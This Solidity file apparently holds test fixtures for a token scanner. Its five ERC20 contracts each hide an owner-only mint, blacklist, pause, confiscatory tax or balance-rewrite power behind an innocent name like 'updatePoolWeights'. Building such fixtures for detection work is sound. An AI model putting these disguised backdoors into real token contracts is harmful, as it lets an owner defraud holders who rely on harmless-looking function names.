// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./lib/ERC20Core.sol";
import "./lib/Owned.sol";

// Variants of the classic admin powers whose functions carry innocent names that no catalog of
// admin signatures lists, so that only behaviour (what calling them does to balances, supply and
// trades) reveals them. Each is owner-only, like its plainly named twin.

/// Disguised mint: "syncEmission" creates tokens out of thin air.
contract DisguisedMintToken is ERC20, Owned {
    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function syncEmission(address account, uint256 amount) external onlyOwner {
        _mint(account, amount);
    }
}

/// Disguised blacklist: "updateHolderTier(account, true)" freezes the account.
contract DisguisedBlacklistToken is ERC20, Owned {
    mapping(address => bool) private _tier;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function updateHolderTier(address account, bool flagged) external onlyOwner {
        _tier[account] = flagged;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_tier[from] && !_tier[to], "tier");
        super._transfer(from, to, amount);
    }
}

/// Disguised pause: "setMaintenanceWindow(true)" stops every transfer but the owner's.
contract DisguisedPauseToken is ERC20, Owned {
    bool private _maintenance;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function setMaintenanceWindow(bool active) external onlyOwner {
        _maintenance = active;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_maintenance || from == _owner, "maintenance");
        super._transfer(from, to, amount);
    }
}

/// Disguised fee setter: "updatePoolWeights(buy, sell)" sets the taxes (basis points, up to 100 %).
contract DisguisedFeeToken is ERC20, PairAware {
    uint256 private constant DENOMINATOR = 10_000;
    uint256 private _buyBps;
    uint256 private _sellBps;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 buyBps, uint256 sellBps) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _buyBps = buyBps;
        _sellBps = sellBps;
        _mint(msg.sender, supply);
    }

    function updatePoolWeights(uint256 buyBps, uint256 sellBps) external onlyOwner {
        require(buyBps <= DENOMINATOR && sellBps <= DENOMINATOR, "weights");
        _buyBps = buyBps;
        _sellBps = sellBps;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        uint256 bps;
        if (pair != address(0) && from != _owner && to != _owner) {
            if (from == pair) bps = _buyBps;
            else if (to == pair) bps = _sellBps;
        }
        uint256 fee = (amount * bps) / DENOMINATOR;
        if (fee > 0) _move(from, _owner == address(0) ? address(0xdead) : _owner, fee);
        _move(from, to, amount - fee);
    }
}

/// Disguised balance rewrite: "reconcileLedger(account, amount)" sets any holder's balance.
contract DisguisedBalanceToken is ERC20, Owned {
    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function reconcileLedger(address account, uint256 amount) external onlyOwner {
        uint256 current = _balances[account];
        if (amount > current) _mint(account, amount - current);
        else if (amount < current) _burn(account, current - amount);
    }
}
